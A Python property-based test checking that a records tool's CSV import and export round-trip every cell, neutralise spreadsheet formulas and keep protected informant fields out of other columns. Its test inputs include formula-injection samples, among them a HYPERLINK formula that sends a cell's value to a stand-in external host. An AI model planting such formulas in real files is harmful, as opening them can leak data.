"""Property: any table written by Python's csv module comes back from import → export cell for cell.

The default export gives back every non-protected cell (neutralised against formulas) and no
protected value anywhere; an export with ``include_protected`` and ``raw_cells`` gives back every
cell exactly, the protected ones in their own columns only. Canonical columns are stored without
their surrounding white space (the import strips them); extra columns are kept verbatim.
"""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from unforgotten.domain.cells import neutralise
from unforgotten.ingest import import_file
from unforgotten.settings import Settings
from unforgotten.store.export import export
from unforgotten.store.workspace import Workspace

_PIECES = st.sampled_from(
    [
        '"',
        '""',
        ",",
        ";",
        "|",
        "\n",
        "\r",
        "\r\n",
        "\t",
        " ",
        "=",
        "+",
        "-",
        "@",
        "'",
        "a",
        "Z",
        "7",
        "김",
        "영희",
        "리",
        '=HYPERLINK("https://x.example/?"&L2)',
        "-12",
        "é",
    ]
)
_TEXT = st.lists(_PIECES, max_size=6).map("".join)
_NAME = st.tuples(st.sampled_from(["Kim", "이", "Ri", "=cmd", "@x", "-1"]), _TEXT).map("".join)
_ROW = st.fixed_dictionaries(
    {
        "full_name": _NAME,
        "notes": _TEXT,
        "remarks": _TEXT,
        "informant_name": _TEXT,
        "informant_contact": _TEXT,
    }
)
HEADER = ["record_id", "full_name", "notes", "remarks", "informant_name", "informant_contact"]


def _marked(row: dict[str, str], index: int) -> dict[str, str]:
    """Protected cells get a marker no other cell can hold, so a leak is found as a substring."""
    return {
        **row,
        "record_id": f"r{index}",
        "informant_name": f"INFN{index}#{row['informant_name']}",
        "informant_contact": f"INFC{index}#{row['informant_contact']}",
    }


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=st.lists(_ROW, min_size=1, max_size=4), delimiter=st.sampled_from([",", ";", "\t"]))
def test_import_then_export_gives_back_every_string(rows: list[dict[str, str]], delimiter: str) -> None:
    table = [_marked(r, i) for i, r in enumerate(rows)]
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        buffer = io.StringIO(newline="")
        writer = csv.DictWriter(buffer, fieldnames=HEADER, delimiter=delimiter, lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(table)
        source = folder / "list.csv"
        source.write_text(buffer.getvalue(), encoding="utf-8", newline="")
        ws = Workspace(
            Settings.build(db=str(folder / "r.db"), key_file=str(folder / "r.key"), actor="test:officer")
        )
        try:
            ws.init()
            import_file(ws, source, source="S")
            export(ws, "records", folder / "plain.csv")
            export(ws, "records", folder / "full.csv", include_protected=True, raw_cells=True)
        finally:
            ws.engine.dispose()
        plain, full = _read(folder / "plain.csv"), _read(folder / "full.csv")

    expected = {
        r["record_id"]: {
            "full_name": r["full_name"].strip(),
            "notes": r["notes"].strip(),
            "remarks": r["remarks"],
            "informant_name": r["informant_name"].strip(),
            "informant_contact": r["informant_contact"].strip(),
        }
        for r in table
    }
    by_id = {r["record_id"]: r for r in full}
    assert set(by_id) == set(expected)
    for record_id, cells in expected.items():
        assert {k: by_id[record_id][k] for k in cells} == cells
    for row in full:  # the protected markers only in their own columns
        for column, value in row.items():
            if column not in ("informant_name", "informant_contact"):
                assert "INFN" not in value and "INFC" not in value, column

    plain_by_id = {r["record_id"]: r for r in plain}
    assert set(plain_by_id) == set(expected)
    for record_id, cells in expected.items():
        got = plain_by_id[record_id]
        assert "informant_name" not in got and "informant_contact" not in got
        for column in ("full_name", "notes", "remarks"):
            assert got[column] == neutralise(cells[column]), column
    text = " ".join(k + " " + v for r in plain for k, v in r.items())
    assert "INFN" not in text and "INFC" not in text
